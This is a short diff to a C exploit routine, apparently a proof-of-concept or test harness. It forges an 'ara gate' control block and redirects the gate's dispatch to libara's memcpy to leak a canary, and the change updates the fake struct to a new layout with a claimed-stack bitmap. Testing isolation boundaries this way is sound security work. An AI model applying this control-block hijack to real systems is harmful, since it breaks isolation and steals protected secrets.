@@ -350,8 +350,8 @@ static uint64_t symbol(const char *file, const char *name)
 	return 0;
 }
 
-struct fake_cb {
-	uint64_t free_stacks, stack_base, stack_stride, dispatch;
+struct fake_cb { /* struct ara_gate_cb (ara/gate.h) */
+	uint64_t claimed, stack_mask, stack_base, stack_stride, dispatch;
 };
 
 static uint64_t control_block; /* the gate's DOM0 data page */
@@ -387,12 +387,14 @@ static void exploit_control_block(void)
 	int (*gate3)(uint64_t, uint64_t, uint64_t) =
 		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;
 	static char stolen[64];
+	static uint64_t claimed; /* the fake block's stack bitmap: none in use */
 
 	if (!base || !memcpy_at || !canary_at) {
 		printf("FAIL: cannot find libara's memcpy and canary in %s\n", libara_file);
 		return;
 	}
-	cb->free_stacks = 1;
+	cb->claimed = (uint64_t)(uintptr_t)&claimed;
+	cb->stack_mask = 1;
 	cb->stack_base = (uint64_t)(uintptr_t)fake_stack;
 	cb->stack_stride = sizeof(fake_stack);
 	cb->dispatch = base + memcpy_at;
